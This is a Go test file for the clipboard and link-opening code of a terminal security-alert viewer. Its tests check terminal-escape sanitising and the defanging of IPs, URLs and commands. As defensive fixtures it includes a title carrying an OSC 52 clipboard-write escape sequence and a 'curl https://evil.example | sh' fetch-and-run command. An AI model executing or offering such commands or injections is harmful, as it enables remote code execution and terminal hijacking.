@@ -1,0 +1,243 @@
+package clipboard
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	tea "charm.land/bubbletea/v2"
+
+	"tocsin/graph/alert"
+	"tocsin/store/query"
+	"tocsin/tui/desktop"
+	"tocsin/tui/screen"
+)
+
+// store has one record.
+type store struct {
+	record alert.Record
+	err    error
+}
+
+func (s store) Record(context.Context, alert.Key) (alert.Record, []alert.Evidence, error) {
+	return s.record, nil, s.err
+}
+
+const page = "https://security.microsoft.com/alerts/da1?tid=1"
+
+func key() alert.Key { return alert.Key{Integration: "contoso", Source: alert.AlertsV2, ID: "da1"} }
+
+func sample() alert.Record {
+	return alert.Record{
+		Key: key(),
+		Alert: &alert.Alert{Title: "Suspicious sign-in", URL: page, Entities: []alert.Entity{
+			{Type: alert.IP, Value: "127.0.0.1"}, {Type: alert.IP, Value: "203.0.113.7"},
+			{Type: alert.User, Value: "amal@contoso.example"}, {Type: alert.Process, Value: "cmd.exe"},
+		}},
+		Triage: alert.Triage{Note: "seen before\nask amal"},
+		Raw:    []byte(`{"id":"da1"}`),
+	}
+}
+
+// tools counts what a desktop was asked for.
+type tools struct {
+	copied, opened string
+	err            error
+}
+
+func (x *tools) desktop(environment map[string]string) *desktop.Desktop {
+	return desktop.New(desktop.Options{
+		System: "linux", Get: func(name string) string { return environment[name] },
+		Look: func(tool string) (string, error) { return tool, nil },
+		Start: func(_ context.Context, input, path string, args ...string) error {
+			if path == "xdg-open" {
+				x.opened = args[0]
+			} else {
+				x.copied = input
+			}
+			return x.err
+		},
+	})
+}
+
+// run runs a command and returns what went to the terminal's clipboard, and what was said.
+func run(t *testing.T, cmd tea.Cmd) (copied string, said screen.Toast) {
+	t.Helper()
+	if cmd == nil {
+		t.Fatal("no command")
+	}
+	msgs := []tea.Msg{cmd()}
+	if batch, ok := msgs[0].(tea.BatchMsg); ok {
+		msgs = nil
+		for _, c := range batch {
+			msgs = append(msgs, c())
+		}
+	}
+	for _, msg := range msgs {
+		if toast, ok := msg.(screen.Toast); ok {
+			said = toast
+		} else {
+			copied = fmt.Sprint(msg) // the library's own type
+		}
+	}
+	return copied, said
+}
+
+func TestCopies(t *testing.T) {
+	incident := alert.Record{Key: alert.Key{Source: alert.Incidents, ID: "7"}, Incident: &alert.Incident{Title: "Ransomware", Alerts: []string{"da1", "da2"}, URL: "https://security.microsoft.com/incidents/7"}}
+	edit := func(f func(*alert.Record)) alert.Record { r := sample(); f(&r); return r }
+	at := Target{Key: key(), Query: "severity = 'high'"}
+	ip := at
+	ip.Entity = &alert.Entity{Type: alert.IP, Value: "198.51.100.9"}
+	for name, c := range map[string]struct {
+		id     string
+		target Target
+		record alert.Record
+		want   string
+		said   string
+	}{
+		"id":               {"copy-id", at, sample(), "da1", "Copied the id: 3 characters"},
+		"title":            {"copy-title", at, sample(), "Suspicious sign-in", "Copied the title: 18 characters"},
+		"hostile title":    {"copy-title", at, edit(func(r *alert.Record) { r.Alert.Title = "a\x1b]52;c;eA==\a\nb\u202ec\x9b31m" }), "a␛]52;c;eA==␇ bc\ufffd31m", "Copied the title: 20 characters"},
+		"no title":         {"copy-note", at, edit(func(r *alert.Record) { r.Triage.Note = " " }), "", "It has no note"},
+		"incident's title": {"copy-title", at, incident, "Ransomware", "Copied the title: 10 characters"},
+		"link":             {"copy-link", at, sample(), page, "Copied the link: 47 characters"},
+		"foreign link":     {"copy-link", at, edit(func(r *alert.Record) { r.Alert.URL = "https://evil.example/a.b\x1b" }), "hxxps://evil[.]example/a.b␛", "Copied the link: 27 characters; defanged, since it leads to no portal of Microsoft's"},
+		"no link":          {"copy-link", at, edit(func(r *alert.Record) { r.Alert.URL = "" }), "", "There is nothing to copy: the link is empty"},
+		"entities":         {"copy-entity", at, sample(), "amal@contoso.example\n203[.]0[.]113[.]7", "Copied user and ip: 2 lines, 38 characters; defanged, Y copies it raw"},
+		"entities, raw":    {"copy-raw", at, sample(), "amal@contoso.example\n203.0.113.7", "Copied user and ip: 2 lines, 32 characters"},
+		"entity":           {"copy-entity", ip, sample(), "198[.]51[.]100[.]9", "Copied ip: 18 characters; defanged, Y copies it raw"},
+		"no entity":        {"copy-entity", at, edit(func(r *alert.Record) { r.Alert.Entities = nil }), "", "There is no entity to copy"},
+		"JSON":             {"copy-json", at, sample(), `{"id":"da1"}`, "Copied the JSON: 12 characters"},
+		"query":            {"copy-query", at, sample(), "severity = 'high'", "Copied the query: 17 characters"},
+		"no query":         {"copy-query", Target{}, sample(), "", "There is nothing to copy: the query is empty"},
+		"KQL":              {"copy-kql", at, sample(), "AlertInfo | where AlertId == @'da1' | join kind=leftouter (AlertEvidence | where AlertId == @'da1') on AlertId", "Copied KQL for the alert: 110 characters"},
+		"KQL of an entity": {"copy-kql", ip, sample(), "DeviceNetworkEvents | where Timestamp > ago(30d) and RemoteIP == @'198.51.100.9'", "Copied KQL for ip 198.51.100.9: 80 characters"},
+		"KQL of incident":  {"copy-kql", Target{Key: incident.Key}, incident, "AlertInfo | where AlertId in (@'da1', @'da2') | join kind=leftouter (AlertEvidence | where AlertId in (@'da1', @'da2')) on AlertId", "Copied KQL for the incident's alerts: 130 characters"},
+		"no KQL":           {"copy-kql", Target{Key: alert.Key{Source: alert.Legacy, ID: "1"}}, edit(func(r *alert.Record) { r.Alert.Entities = nil }), "", "Advanced hunting has no table for it"},
+		"note":             {"copy-note", at, edit(func(r *alert.Record) { r.Triage.Note = "a\r\nb\x1b[2J" }), "a\nb␛[2J", "Copied the note: 2 lines, 7 characters"},
+		"too long":         {"copy-json", at, edit(func(r *alert.Record) { r.Raw = []byte(strings.Repeat("x", mostBytes+1)) }), "", "Not copied: the JSON has 72.3 KB, and terminals take 72.3 KB"},
+		"just fits":        {"copy-json", at, edit(func(r *alert.Record) { r.Raw = []byte(strings.Repeat("x", mostBytes)) }), strings.Repeat("x", mostBytes), "Copied the JSON: 74 000 characters"},
+		"no record":        {"copy-id", Target{Query: "x"}, sample(), "", "Nothing is selected"},
+	} {
+		x := &tools{}
+		clip := New(t.Context(), Options{Store: store{record: c.record}, Desktop: x.desktop(map[string]string{"DISPLAY": ":0"})})
+		cmd, ok := clip.Do(c.id, c.target)
+		if !ok {
+			t.Fatalf("%s: no command %s", name, c.id)
+		}
+		if got, said := run(t, cmd); got != c.want || x.copied != c.want || said.Text != c.said {
+			t.Errorf("%s: copied %.80q and by a tool %.80q, said %q; want %.80q and %q", name, got, x.copied, said.Text, c.want, c.said)
+		}
+	}
+}
+
+// Every command that Specs lists is done, and no other.
+func TestSpecs(t *testing.T) {
+	clip := New(t.Context(), Options{Store: store{record: sample()}})
+	seen := map[string]bool{}
+	for _, s := range Specs("alerts") {
+		id := strings.TrimPrefix(s.ID, "alerts.")
+		if _, ok := clip.Do(id, Target{Key: key()}); !ok || len(s.Keys) != 1 || seen[s.Keys[0]] || s.Help == "" {
+			t.Errorf("%+v", s)
+		}
+		seen[s.Keys[0]] = true
+	}
+	for _, id := range []string{"copy", "copy-", "done"} {
+		if _, ok := clip.Do(id, Target{Key: key()}); ok {
+			t.Errorf("%s is done", id)
+		}
+	}
+}
+
+func TestJSONOfCommands(t *testing.T) {
+	r := sample()
+	clip := New(t.Context(), Options{Store: store{record: r}, JSON: func(r *alert.Record) ([]byte, error) {
+		if r.Key != key() {
+			return nil, errors.New("another record")
+		}
+		return []byte("{}\x1b\u009b"), nil
+	}})
+	cmd, _ := clip.Do("copy-json", Target{Key: key()})
+	if got, _ := run(t, cmd); got != "{}" {
+		t.Errorf("copied %q", got)
+	}
+	clip.o.JSON = func(*alert.Record) ([]byte, error) { return nil, errors.New("no text") }
+	if got, said := run(t, cmd); got != "" || said.Text != "It can't be written as JSON: no text" {
+		t.Errorf("copied %q, said %q", got, said.Text)
+	}
+	clip.o.Store = store{err: errors.New("disk full")}
+	if got, said := run(t, cmd); got != "" || said != (screen.Toast{Text: "disk full", Level: screen.Bad}) {
+		t.Errorf("copied %q, said %+v", got, said)
+	}
+}
+
+func TestOpen(t *testing.T) {
+	for name, c := range map[string]struct {
+		url           string
+		env           map[string]string
+		err           error
+		opens, copies string
+		says          string
+	}{
+		"browser":      {page, map[string]string{"DISPLAY": ":0"}, nil, page, "", "Opened in the browser: " + page},
+		"over SSH":     {page, map[string]string{"DISPLAY": ":0", "SSH_TTY": "x"}, nil, "", page, "Copied the link: 47 characters; over SSH the browser is on your own machine"},
+		"no display":   {page, nil, nil, "", page, "Copied the link: 47 characters; no browser can be started here"},
+		"it fails":     {page, map[string]string{"DISPLAY": ":0"}, errors.New("exit status 3"), page, page, "Copied the link: 47 characters; the browser couldn't be started: exit status 3"},
+		"no link":      {"", map[string]string{"DISPLAY": ":0"}, nil, "", "", "It has no page in a portal"},
+		"foreign host": {"https://evil.example/\x1b", map[string]string{"DISPLAY": ":0"}, nil, "", "", "Not opened: its link leads to no portal of Microsoft's that tocsin knows"},
+		"no https":     {"http://security.microsoft.com/", map[string]string{"DISPLAY": ":0"}, nil, "", "", "Not opened: its link leads to no portal of Microsoft's that tocsin knows"},
+	} {
+		x, r := &tools{err: c.err}, sample()
+		r.Alert.URL = c.url
+		clip := New(t.Context(), Options{Store: store{record: r}, Desktop: x.desktop(c.env)})
+		cmd, _ := clip.Do("portal", Target{Key: key()})
+		if got, said := run(t, cmd); got != c.copies || x.opened != c.opens || said.Text != c.says {
+			t.Errorf("%s: opened %q, copied %q, said %q", name, x.opened, got, said.Text)
+		}
+	}
+}
+
+func TestDefang(t *testing.T) {
+	for _, c := range []struct {
+		of          alert.EntityType
+		value, want string
+	}{
+		{alert.URL, "https://evil.example/a.b?c=d.e", "hxxps://evil[.]example/a.b?c=d.e"},
+		{alert.URL, "HTTP://evil.example", "hxxp://evil[.]example"},
+		{alert.URL, "evil.example/a", "evil[.]example/a"},
+		{alert.URL, "ftp://evil.example#x.y", "fxp://evil[.]example#x.y"},
+		{alert.IP, "203.0.113.7", "203[.]0[.]113[.]7"},
+		{alert.IP, "2001:db8::1", "2001[:]db8[:][:]1"},
+		{alert.IP, "::ffff:203.0.113.7", "::ffff:203[.]0[.]113[.]7"},
+		{alert.Domain, "evil.example", "evil[.]example"},
+		{alert.Email, "a.b@evil.example", "a.b@evil[.]example"},
+		{alert.Command, "curl https://evil.example | sh", "curl hxxps://evil.example | sh"},
+		{alert.Hash, "abc", "abc"},
+		{alert.User, "amal@contoso.example", "amal@contoso.example"},
+		{alert.File, "a.exe", "a.exe"},
+	} {
+		if got := Defang(c.of, c.value); got != c.want {
+			t.Errorf("%s %q: %q, want %q", c.of, c.value, got, c.want)
+		}
+	}
+}
+
+// What was defanged is read when it is pasted into a query.
+func TestDefangedIsRead(t *testing.T) {
+	for _, e := range sampleIndicators() {
+		plain, _, _, ok := query.Recognize(e.Value)
+		if defanged, _, _, _ := query.Recognize(Defang(e.Type, e.Value)); !ok || defanged != plain {
+			t.Errorf("%s: %q is read as %q, want %q", e.Value, Defang(e.Type, e.Value), defanged, plain)
+		}
+	}
+}
+
+func sampleIndicators() []alert.Entity {
+	return []alert.Entity{
+		{Type: alert.URL, Value: "https://evil.example/a"}, {Type: alert.URL, Value: "http://203.0.113.7/x"}, {Type: alert.URL, Value: "ftp://evil.example/a"},
+		{Type: alert.IP, Value: "203.0.113.7"}, {Type: alert.IP, Value: "2001:db8::1"}, {Type: alert.Email, Value: "a.b@evil.example"},
+	}
+}
